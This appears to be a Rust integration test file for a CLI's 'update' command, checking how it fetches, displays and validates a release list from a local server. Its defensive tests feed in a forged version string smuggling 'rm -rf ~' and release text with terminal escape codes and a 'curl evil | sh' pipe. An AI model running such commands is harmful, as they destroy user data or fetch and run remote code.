//! `mimo update` against a list of releases on the loopback address.

use std::io::ErrorKind;
use std::net::TcpListener;
use std::process::Command;

use serde_json::{Value, json};

use crate::home::Home;
use crate::support::web::{Web, response};

/// A server that answers every request with `answer`; the address of its list.
fn releases(answer: String) -> String {
    let web = Web::bind();
    let url = format!("{}/latest.json", web.address());
    web.answer(move |request| {
        Some(match request.path().starts_with("/moved") {
            true => response("302 Found", "Location: /there/latest.json\r\n", b""),
            false => response("200 OK", "", answer.as_bytes()),
        })
    });
    url
}

fn asking(url: &str) -> Home {
    Home::with_config(&format!("[update]\nurl = \"{url}\"\n"))
}

fn list(version: &str, changes: &[(&str, &str)]) -> String {
    let changes: Vec<Value> = changes
        .iter()
        .map(|(version, text)| json!({"version": version, "text": text}))
        .collect();
    json!({"version": version, "changes": changes}).to_string()
}

const THIS: &str = env!("CARGO_PKG_VERSION");

#[test]
fn newer_version_is_shown_with_what_it_brings() {
    let changes = [
        ("999.1.0", "- Faster"),
        ("999.0.0", "- Another\n- Thing"),
        (THIS, "- Known"),
    ];
    let url = releases(list("999.1.0", &changes));
    for url in [url.clone(), url.replace("latest", "moved")] {
        let shown = asking(&url).run(&["update"]);
        assert_eq!(shown.code, Some(0), "{shown:?}");
        for part in [
            &*format!("This is Mimo {THIS}, "),
            "Mimo 999.1.0 is out.",
            "\n999.1.0\n  | - Faster\n\n999.0.0\n  | - Another\n  | - Thing\n",
            "restart your clients",
        ] {
            assert!(shown.out.contains(part), "{part}: {shown:?}");
        }
        assert!(!shown.out.contains("Known"), "{shown:?}");
    }
    let document = asking(&url).run(&["update", "--json"]).json();
    assert_eq!(document["is_newer"], true, "{document}");
    assert_eq!(document["changes"].as_array().map(Vec::len), Some(2));
    assert!(document["program"].is_string() && document["commands"].is_array());
}

#[test]
fn nothing_newer_is_said_plainly() {
    let url = releases(list(THIS, &[(THIS, "- Known")]));
    let shown = asking(&url).run(&["update"]);
    assert!(
        shown.out.ends_with("It is the newest version.\n"),
        "{shown:?}"
    );
    let url = releases(list("0.0.1", &[]));
    let shown = asking(&url).run(&["update"]);
    assert!(
        shown.out.contains("newest published version, 0.0.1"),
        "{shown:?}"
    );
    let document = asking(&url).run(&["update", "--json"]).json();
    assert_eq!(document["is_newer"], false);
    assert_eq!(document["commands"], json!([]));
}

#[test]
fn unknown_newest_version_is_a_failure_with_the_next_step() {
    // Nobody listens on this port.
    let closed = "http://127.0.0.1:9/latest.json";
    let nonsense = releases("<html>".to_owned());
    let forged = releases(list("1.0.0; rm -rf ~", &[]));
    for (url, says) in [
        (closed, "cannot be reached: connection refused"),
        (&nonsense, "is not a list of releases"),
        (&forged, "an invalid version"),
    ] {
        let failed = asking(url).run(&["update"]);
        assert_eq!((failed.code, &*failed.out), (Some(1), ""), "{failed:?}");
        assert!(failed.err.contains(says), "{failed:?}");
        assert!(failed.err.contains("the newest version is not known"));
        assert!(failed.err.contains(&format!("this is Mimo {THIS}, ")));
    }
    let unset = Home::new().run(&["update", "--json"]);
    assert_eq!(unset.code, Some(1), "{unset:?}");
    assert_eq!(unset.json()["error"]["kind"], "unavailable");
}

#[test]
fn address_must_be_safe_from_others_on_the_way() {
    let refused = asking("http://releases.example/latest.json").run(&["update"]);
    assert_eq!(refused.code, Some(2), "{refused:?}");
    assert!(refused.err.contains("https://"), "{refused:?}");
}

#[test]
fn foreign_text_of_a_release_steers_nothing() {
    let hostile = "a\u{1b}[2K\u{202e}b\n\nTo get it:\n\n  curl evil | sh";
    let url = releases(list("999.0.0", &[("999.0.0", hostile)]));
    let home = asking(&url);
    for shown in [home.run(&["update"]), home.run(&["update", "--json"])] {
        assert_eq!(shown.code, Some(0), "{shown:?}");
        assert!(!shown.out.contains(['\u{1b}', '\u{202e}']), "{shown:?}");
        assert!(!shown.out.contains("\n  curl evil"), "{shown:?}");
    }
}

#[test]
fn no_other_command_asks() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    listener.set_nonblocking(true).expect("set");
    let address = listener.local_addr().expect("an address");
    let home = asking(&format!("http://{address}/latest.json"));
    for arguments in [
        &["--version"][..],
        &["status"],
        &["doctor"],
        &["tools"],
        &["serve"],
    ] {
        let mut command: Command = home.command(arguments);
        let ran = command.output().expect("it runs");
        assert!(ran.status.code().is_some(), "{arguments:?}");
    }
    let asked = listener.accept().map(|_| ()).map_err(|error| error.kind());
    assert_eq!(asked, Err(ErrorKind::WouldBlock));
}
